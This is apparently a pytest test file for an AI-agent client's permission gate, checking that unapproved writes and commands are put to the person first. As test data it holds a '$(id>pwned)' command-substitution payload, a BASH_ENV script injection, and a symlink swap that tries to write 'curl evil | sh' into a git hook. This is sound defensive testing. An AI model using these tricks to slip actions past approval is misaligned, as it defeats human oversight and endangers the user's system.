"""Side effects nobody approved are asked for first (`[permissions] gate_unasked`), over
real stdio: the scripted fake agent and the demo agent, the real registry and broker."""

from __future__ import annotations

import json
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from louise.config.loading import load_config_mapping
from louise.config.model import Config
from louise.registry import SessionRegistry
from tests.integration.agents import FAKES
from tests.integration.test_registry import ScriptedDecider, agent_texts

pytestmark = pytest.mark.anyio
SCRIPT = [sys.executable, str(FAKES / "script_agent.py")]


def config(**permissions: Any) -> Config:
    return load_config_mapping({
        "agents": {"script": {"command": SCRIPT[0], "args": SCRIPT[1:]}},
        "permissions": permissions,
    })


@asynccontextmanager
async def registry(cfg: Config, decider: Any) -> AsyncIterator[SessionRegistry]:
    async with SessionRegistry(cfg, decider=decider, grace_seconds=0.5,
                               permission_memory=None, limits_cache=None,
                               transcripts_dir=None) as reg:
        yield reg


def answers(reg: SessionRegistry, session_id: str) -> list[tuple[str, Any]]:
    """The fake's report of each answer it got: (method, result or {"error": …})."""
    out = []
    for line in agent_texts(reg, session_id).splitlines():
        if line.startswith("ANSWER "):
            _, method, payload = line.split(" ", 2)
            out.append((method, json.loads(payload)))
    return out


def write(path: Path, content: str) -> dict[str, Any]:
    return {"request": "fs/write_text_file", "params": {"path": str(path), "content": content}}


def ask(tool_call: dict[str, Any]) -> dict[str, Any]:
    options = [{"optionId": "yes", "name": "Yes", "kind": "allow_once"},
               {"optionId": "no", "name": "No", "kind": "reject_once"}]
    return {"request": "session/request_permission",
            "params": {"toolCall": tool_call, "options": options}}


async def run(reg: SessionRegistry, cwd: Path, *turns: list[dict[str, Any]]) -> str:
    session = await reg.new_session("script", str(cwd))
    for steps in turns:
        await reg.prompt(session.session_id, json.dumps(steps))
    return session.session_id


async def test_an_unasked_write_is_asked_for_and_a_refusal_writes_nothing(
        tmp_path: Path) -> None:
    target = tmp_path / "notes.txt"
    target.write_text("old line\n")
    decider = ScriptedDecider("reject_once")
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [write(target, "new line\n")])
        (request,) = decider.asked
        assert request.kind == "edit" and "did not ask" in request.title
        assert request.paths == (str(target),)
        (diff,) = request.diffs
        assert diff["oldText"] == "old line\n" and diff["newText"] == "new line\n"
        ((method, answer),) = answers(reg, sid)
        assert method == "fs/write_text_file" and answer["error"]["code"] == -32001
    assert target.read_text() == "old line\n"


async def test_an_allowed_unasked_write_goes_ahead_and_is_not_asked_again_that_turn(
        tmp_path: Path) -> None:
    target = tmp_path / "out.txt"
    decider = ScriptedDecider("allow_once")
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [write(target, "one\n"), write(target, "two\n")],
                        [write(target, "three\n")])
        # Once in the first turn (new file: no old text), once again in the next turn.
        assert len(decider.asked) == 2
        assert decider.asked[0].diffs[0]["oldText"] is None
        assert [m for m, _ in answers(reg, sid)] == ["fs/write_text_file"] * 3
    assert target.read_text() == "three\n"


async def test_an_agent_that_asked_first_gets_no_second_prompt(tmp_path: Path) -> None:
    target = tmp_path / "hello.py"
    marker = tmp_path / "ran"
    decider = ScriptedDecider("allow_once")
    edit = {"toolCallId": "c1", "title": "Edit hello.py", "kind": "edit", "status": "pending",
            "content": [{"type": "diff", "path": str(target), "oldText": None,
                         "newText": "print(1)\n"}]}
    run_touch = {"toolCallId": "c2", "title": "Touch", "kind": "execute", "status": "pending",
                 "rawInput": {"command": f"touch {marker}"}}
    terminal = {"request": "terminal/create",
                "params": {"command": "sh", "args": ["-c", f"touch {marker}"]}}
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [ask(edit), write(target, "print(1)\n"),
                                         ask(run_touch), terminal])
        assert [r.title for r in decider.asked] == ["Edit hello.py", "Touch"]
        got = answers(reg, sid)
        assert [m for m, _ in got] == ["session/request_permission", "fs/write_text_file",
                                       "session/request_permission", "terminal/create"]
        assert "terminalId" in got[-1][1]
    assert target.read_text() == "print(1)\n"


async def test_what_the_person_refused_this_turn_is_refused_without_asking_again(
        tmp_path: Path) -> None:
    target = tmp_path / "keep.txt"
    target.write_text("keep\n")
    decider = ScriptedDecider("reject_once")
    edit = {"toolCallId": "c1", "title": "Edit keep.txt", "kind": "edit",
            "locations": [{"path": str(target)}]}
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [ask(edit), write(target, "gone\n")])
        assert [r.title for r in decider.asked] == ["Edit keep.txt"]
        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
    assert target.read_text() == "keep\n"


async def test_an_unasked_command_is_asked_for_and_a_refusal_runs_nothing(
        tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    decider = ScriptedDecider("reject_once")
    terminal = {"request": "terminal/create",
                "params": {"command": "touch", "args": [str(marker)]}}
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [terminal])
        (request,) = decider.asked
        assert request.kind == "execute" and request.command == f"touch {marker}"
        assert answers(reg, sid)[0][1]["error"]["code"] == -32001
    assert not marker.exists()


async def test_a_reading_approval_does_not_cover_a_write(tmp_path: Path) -> None:
    target = tmp_path / "r.txt"
    decider = ScriptedDecider("allow_once")
    read = {"toolCallId": "c1", "title": "Read r.txt", "kind": "read",
            "locations": [{"path": str(target)}]}
    async with registry(config(), decider) as reg:
        await run(reg, tmp_path, [ask(read), write(target, "x\n")])
        assert [r.kind for r in decider.asked] == ["read", "edit"]


async def test_a_configured_rule_answers_the_gate(tmp_path: Path) -> None:
    target = tmp_path / "ruled.txt"
    decider = ScriptedDecider("reject_once")
    rules = [{"kind": "edit", "decision": "allow"}]
    async with registry(config(rules=rules), decider) as reg:
        await run(reg, tmp_path, [write(target, "by rule\n")])
        assert decider.asked == []
    assert target.read_text() == "by rule\n"


async def test_the_gate_can_be_turned_off(tmp_path: Path) -> None:
    target = tmp_path / "free.txt"
    decider = ScriptedDecider("reject_once")
    async with registry(config(gate_unasked=False), decider) as reg:
        await run(reg, tmp_path, [write(target, "unasked\n")])
        assert decider.asked == []
    assert target.read_text() == "unasked\n"


async def test_the_demo_agent_asks_before_it_executes_and_is_asked_once(
        tmp_path: Path) -> None:
    decider = ScriptedDecider("allow_once")
    async with registry(load_config_mapping({}), decider) as reg:
        session = await reg.new_session("demo", str(tmp_path))
        assert await reg.prompt(session.session_id, "/scenario execute") == "end_turn"
        (request,) = decider.asked
        assert request.kind == "execute" and request.title == \
            "Run `echo hello from louise-demo-agent`"
        assert "exited with 0" in agent_texts(reg, session.session_id)


async def test_the_demo_agent_runs_nothing_when_refused(tmp_path: Path) -> None:
    decider = ScriptedDecider("reject_once")
    async with registry(load_config_mapping({}), decider) as reg:
        session = await reg.new_session("demo", str(tmp_path))
        host = reg.terminal_host(session.session_id)
        assert host is not None
        created: list[Any] = []
        host.subscribe(created.append, replay=False)
        await reg.prompt(session.session_id, "/scenario execute")
        assert len(decider.asked) == 1
        assert created == []
        assert "did not run" in agent_texts(reg, session.session_id)


# ------------------------------------------------------- what an approval covers, exactly


class AgentAsksOnly:
    """Allows what the agent asked for itself; refuses (and counts) what the gate asks."""

    def __init__(self, during: Any = None) -> None:
        self.asked: list[Any] = []
        self.during = during  # called while the agent's own request is being decided

    async def decide(self, request: Any, queue: Any) -> str | None:
        self.asked.append(request)
        if "(the agent did not ask)" in request.title:
            return request.option_of_kind("reject_once")  # type: ignore[no-any-return]
        if self.during is not None:
            self.during()
        return request.option_of_kind("allow_once")  # type: ignore[no-any-return]

    def gate_asks(self) -> list[Any]:
        return [r for r in self.asked if "(the agent did not ask)" in r.title]


def execute(command: Any, **raw_input: Any) -> dict[str, Any]:
    return ask({"toolCallId": "c1", "title": "Run", "kind": "execute", "status": "pending",
                "rawInput": {"command": command, **raw_input}})


def terminal(command: str, *args: str, **params: Any) -> dict[str, Any]:
    return {"request": "terminal/create",
            "params": {"command": command, "args": list(args), **params}}


async def test_approving_a_literal_does_not_let_its_expansion_run(tmp_path: Path) -> None:
    decider = AgentAsksOnly()
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [execute("echo '$(id>pwned)'"),
                                         terminal("sh", "-c", "echo $(id>pwned)")])
        (gate,) = decider.gate_asks()
        assert gate.command == "sh -c 'echo $(id>pwned)'"
        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
    assert not (tmp_path / "pwned").exists()


async def test_approving_a_command_does_not_cover_it_with_an_env_it_did_not_show(
        tmp_path: Path) -> None:
    (tmp_path / "evil.sh").write_text("touch pwned\n")
    decider = AgentAsksOnly()
    evil = [{"name": "BASH_ENV", "value": "evil.sh"}]
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [execute("true"), terminal("bash", "-c", "true", env=evil)])
        (gate,) = decider.gate_asks()
        assert gate.command == "BASH_ENV=evil.sh bash -c true"  # the env is shown
        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
    assert not (tmp_path / "pwned").exists()


async def test_approving_a_command_does_not_cover_it_in_another_directory(
        tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    decider = AgentAsksOnly()
    async with registry(config(), decider) as reg:
        await run(reg, tmp_path, [execute("true"), terminal("true", cwd=str(tmp_path / "sub"))])
        (gate,) = decider.gate_asks()
        assert gate.title == f"Run `true` in {tmp_path / 'sub'} (the agent did not ask)"


@pytest.mark.parametrize("spelled", [
    terminal("sh", "-c", "echo hello world"), terminal("echo", "hello", "world"),
    terminal("/bin/sh", "-c", "echo  'hello' world", cwd="CWD"),
    terminal("sh", "-c", "echo hello world | cat"),
])
async def test_an_agent_that_asked_for_a_command_runs_it_as_it_likes_unasked_again(
        tmp_path: Path, spelled: dict[str, Any]) -> None:
    # As codex asks (a shell line, and its cwd), then runs it through terminal/create.
    line = "echo hello world | cat" if "| cat" in str(spelled) else "echo hello world"
    spelled = json.loads(json.dumps(spelled).replace("CWD", str(tmp_path)))
    decider = AgentAsksOnly()
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [execute(line, cwd=str(tmp_path)), spelled])
        assert decider.gate_asks() == []
        assert "terminalId" in answers(reg, sid)[-1][1]


async def test_what_the_gate_itself_asked_is_not_asked_again(tmp_path: Path) -> None:
    decider = ScriptedDecider("allow_once")
    env = [{"name": "LOUISE_TEST", "value": "1"}]
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [terminal("true", env=env), terminal("true", env=env),
                                         terminal("sh", "-c", "true", env=env)])
        (request,) = decider.asked
        assert request.command == "LOUISE_TEST=1 true"
        assert all("terminalId" in answer for _, answer in answers(reg, sid))


async def test_approving_a_command_naming_a_file_does_not_cover_writing_it(
        tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("kept\n")
    decider = AgentAsksOnly()
    run_on = ask({"toolCallId": "c1", "title": "Run", "kind": "execute",
                  "rawInput": {"command": "cat victim.txt"},
                  "locations": [{"path": str(victim)}]})
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [run_on, write(victim, "owned\n")])
        (gate,) = decider.gate_asks()
        assert gate.kind == "edit" and gate.diffs[0]["newText"] == "owned\n"
        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
    assert victim.read_text() == "kept\n"


def hook_setup(tmp_path: Path) -> tuple[Path, Path]:
    hooks = tmp_path / ".git" / "hooks"
    hooks.mkdir(parents=True)
    hook = hooks / "post-checkout"
    hook.write_text("#!/bin/sh\n")
    notes = tmp_path / "notes.txt"
    notes.write_text("old\n")
    return notes, hook


def edit_notes(notes: Path) -> dict[str, Any]:
    return ask({"toolCallId": "c1", "title": "Edit notes.txt", "kind": "edit",
                "content": [{"type": "diff", "path": str(notes), "oldText": "old\n",
                             "newText": "new\n"}]})


async def test_an_approved_file_swapped_for_a_link_after_the_approval_is_asked_again(
        tmp_path: Path) -> None:
    notes, hook = hook_setup(tmp_path)
    decider = AgentAsksOnly()
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [edit_notes(notes), {"link": [str(notes), str(hook)]},
                                         write(notes, "curl evil | sh\n")])
        (gate,) = decider.gate_asks()
        assert gate.paths == (str(hook),)  # the question names where it would land
        assert answers(reg, sid)[-1][1]["error"]["code"] == -32001
    assert hook.read_text() == "#!/bin/sh\n"


async def test_an_approved_file_swapped_for_a_link_while_it_was_asked_is_asked_again(
        tmp_path: Path) -> None:
    notes, hook = hook_setup(tmp_path)

    def swap() -> None:
        notes.unlink()
        notes.symlink_to(hook)

    decider = AgentAsksOnly(during=swap)
    async with registry(config(), decider) as reg:
        await run(reg, tmp_path, [edit_notes(notes), write(notes, "curl evil | sh\n")])
        assert len(decider.gate_asks()) == 1
    assert hook.read_text() == "#!/bin/sh\n"


async def test_an_approved_link_still_leading_where_it_did_is_written(tmp_path: Path) -> None:
    real = tmp_path / "real.txt"
    real.write_text("old\n")
    link = tmp_path / "link.txt"
    link.symlink_to(real)
    decider = AgentAsksOnly()
    async with registry(config(), decider) as reg:
        await run(reg, tmp_path, [edit_notes(link), write(link, "new\n")])
        assert decider.gate_asks() == []
    assert real.read_text() == "new\n"


# ------------------------------------------------------- permission params louise cannot read


@pytest.mark.parametrize("params", [
    {"toolCall": {"toolCallId": "c1", "title": "T", "kind": "edit"}, "options": 5},
    {"toolCall": {"toolCallId": "c1", "title": "T", "kind": "edit", "content": 7},
     "options": [{"optionId": "yes", "name": "Yes", "kind": "allow_once"}]},
    {"toolCall": {"toolCallId": "c1", "title": "T", "locations": {"path": "/x"}},
     "options": []},
    {"toolCall": "edit", "options": []},
])
async def test_a_permission_request_of_the_wrong_shape_is_an_invalid_params_error(
        tmp_path: Path, params: dict[str, Any]) -> None:
    decider = ScriptedDecider("allow_once")
    async with registry(config(), decider) as reg:
        sid = await run(reg, tmp_path, [{"request": "session/request_permission",
                                         "params": params}])
        ((method, answer),) = answers(reg, sid)
        assert method == "session/request_permission"
        assert answer["error"]["code"] == -32602
        assert decider.asked == []
